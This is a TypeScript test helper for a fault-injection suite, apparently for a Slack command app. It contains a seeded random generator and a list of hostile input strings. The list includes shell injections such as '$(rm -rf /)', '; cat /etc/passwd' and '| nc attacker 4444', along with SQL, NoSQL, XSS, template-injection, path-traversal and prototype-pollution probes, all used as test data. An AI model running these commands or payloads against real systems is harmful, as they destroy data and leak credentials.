/**
 * A seeded pseudo-random generator (mulberry32) and the abusive texts the fault suite sends, so a failure
 * reproduces: run again with the seed it printed (`FAULTS_SEED=<n> npx jest test/faults`).
 */

export interface Random {
  /** A float in [0, 1). */
  next(): number;
  int(maxExclusive: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

export function seededRandom(seed: number): Random {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (max) => Math.floor(next() * max),
    pick: (items) => items[Math.floor(next() * items.length)],
    chance: (p) => next() < p,
  };
}

/** The seed of this run: FAULTS_SEED when set, else a fixed one (so CI runs are reproducible too). */
export function faultsSeed(fallback: number): number {
  const raw = process.env.FAULTS_SEED;
  return raw && /^\d+$/.test(raw) ? Number(raw) : fallback;
}

/** Operators, injection strings and Slack markup a hostile or careless person might type. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  '{"$gt": ""}',
  '{"$ne": null}',
  '{"$where": "sleep(5000) || true"}',
  '{"$regex": ".*"}',
  '{"name": {"$in": []}, "$or": [{}]}',
  '[{"$match": {}}]',
  '$gt',
  '$where',
  '.*',
  '^(a+)+$',
  '(?=x)',
  '[',
  '\\',
  '\\\\',
  '\\"',
  '"',
  "'",
  '“',
  '”',
  '"unbalanced',
  "it's",
  '"" ""',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '&& shutdown -h now',
  '| nc attacker 4444',
  '../../../../etc/passwd',
  "' OR '1'='1' --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant to arrive as plain text
  '${7*7}',
  '#{7*7}',
  '{{7*7}}',
  '%s%s%s%n',
  '%00',
  '__proto__',
  'constructor',
  '{"__proto__": {"admin": true}}',
  'prototype',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '9999999999999999999999',
  '-0',
  '0x1F',
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0NOBODY01|nobody>',
  '<@W0NOBODY02>',
  '<@U0NOBODY03',
  '<#C0NOCHAN01|nowhere>',
  '<#C0NOCHAN02>',
  '<mailto:a@b.c|mail>',
  '<https://example.com|click>',
  '&lt;&gt;&amp;',
  '*bold* _it_ ~strike~ `code` ```block```',
  '>quote',
  '\n\n\n',
  '\t',
  '2026-02-30',
  '2026-13-01',
  'mentoring',
  'internship',
  'pledged',
  'fulfilled',
  'mine',
  'all',
  'open',
  'overdue',
  'add',
  'remove',
  'list',
  'show',
];

const UNICODE_POOL: readonly string[] = [
  '😀',
  '👩🏽‍💻',
  '🏳️‍🌈',
  '\u200b', // zero-width space
  '\u200d', // zero-width joiner
  '\u202e', // right-to-left override
  '\u2066',
  '\ufeff', // byte order mark
  '\u0301', // combining acute
  'é',
  'ß',
  'İ',
  'ﬁ',
  'Ⅻ',
  '２０２６',
  'مرحبا',
  'שלום',
  '你好',
  'こんにちは',
  '한국어',
  'Ωμέγα',
  'Привет',
  '\ud83d', // a lone high surrogate
  '\udc00', // a lone low surrogate
  '\u0007',
  '\u001b[31m',
  '\r',
  '\u2028',
  '\u00a0',
  '\uffff',
  '\u{1f4a9}',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
];

function randomUnicode(r: Random, length: number): string {
  let out = '';
  while (out.length < length) {
    if (r.chance(0.6)) out += r.pick(UNICODE_POOL);
    else out += String.fromCodePoint(r.chance(0.8) ? 0x20 + r.int(0x2fff) : 0x10000 + r.int(0xffff));
  }
  return out;
}

/** One generated argument text (what follows the subcommand and its verb). */
export function hostileText(r: Random): string {
  switch (r.int(7)) {
    case 0:
      return r.pick(['', ' ', '   ', '\n', '\t \n', '\u3000']);
    case 1: {
      // very long: up to Slack's ~4,000 characters of command text, one long word or many
      const unit = r.pick(['a', 'Con Edison ', '😀', '"', '\\', '{"$gt":""}', `${'x'.repeat(80)} `]);
      return unit.repeat(Math.ceil((1000 + r.int(3000)) / unit.length)).slice(0, 4000);
    }
    case 2:
      return randomUnicode(r, 1 + r.int(60));
    case 3:
      return Array.from({ length: 1 + r.int(6) }, () => r.pick(['"', "'", '\\', '“', '”', '\\"', '"a b', "c d'", ' '])).join(
        r.pick(['', ' ']),
      );
    default: {
      const parts = Array.from({ length: 1 + r.int(4) }, () =>
        r.chance(0.15) ? randomUnicode(r, 1 + r.int(8)) : r.pick(HOSTILE_FRAGMENTS),
      );
      return parts.join(r.pick([' ', '', '  ', '\n']));
    }
  }
}
